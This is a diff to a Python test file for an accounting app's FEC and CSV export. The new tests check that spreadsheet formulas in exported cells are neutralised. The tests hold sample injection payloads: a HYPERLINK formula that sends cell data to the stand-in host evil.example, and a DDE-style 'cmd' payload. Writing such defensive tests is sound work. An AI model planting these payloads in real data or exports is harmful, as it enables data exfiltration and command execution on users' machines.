@@ -1,6 +1,8 @@
 """The FEC file: columns, formats, encoding, ordering, numbering, fiscal years; and the CSV."""
 
+import csv
 import datetime
+import io
 from decimal import Decimal
 
 import pytest
@@ -10,6 +12,7 @@ from facturier.ledger import fec, fiscal
 from facturier.ledger.booking import book
 from facturier.ledger.exports import export_fiscal_year
 from facturier.ledger.tests.conftest import customer, document, issue, line, receive, row, supplier
+from facturier.spreadsheets import inert
 
 D = Decimal
 pytestmark = pytest.mark.django_db
@@ -132,3 +135,33 @@ def test_export_of_a_year_without_entries_is_the_header_alone(dossier):
 
     assert open_content(export.archived) == (HEADER + "\r\n").encode("ascii")
     assert (export.line_count, export.entry_count) == (0, 0)
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(dossier):
+    party = supplier(dossier, name=EVIL_NAME)
+    book(receive(dossier, document("@FA-5", [line("1", "100.00")], issue_date=datetime.date(2026, 5, 7),
+                                   seller=(EVIL_NAME, "443061841")), party))
+    text = b"".join(fec.csv_chunks(fec.export_lines(dossier)))[3:].decode("utf-8")
+    cells = [row for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
+    supplier_row = dict(zip(fec.CSV_COLUMNS, cells[0]))
+    assert supplier_row["Libellé auxiliaire"] == "'" + EVIL_NAME
+    assert supplier_row["Pièce"] == "'@FA-5"
+    assert supplier_row["Crédit"] == "120,00"  # numbers stay numbers
+    assert not any(cell.startswith(("=", "+", "@")) for row in cells for cell in row)
+
+
+def test_negative_numbers_stay_numbers_but_a_formula_after_a_minus_does_not_run():
+    assert inert("-12,50") == "-12,50" and inert("-3") == "-3"
+    assert inert("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
+    assert inert("\t=1") == "'\t=1" and inert(42) == 42
+
+
+def test_the_fec_keeps_labels_exactly_as_booked(dossier):
+    party = supplier(dossier, name=EVIL_NAME)
+    book(receive(dossier, document("@FA-5", [line("1", "100.00")], issue_date=datetime.date(2026, 5, 7),
+                                   seller=(EVIL_NAME, "443061841")), party))
+    supplier_row = dict(zip(fec.COLUMNS, records(fec_text(dossier))[1]))
+    assert supplier_row["CompAuxLib"] == EVIL_NAME and supplier_row["PieceRef"] == "@FA-5"
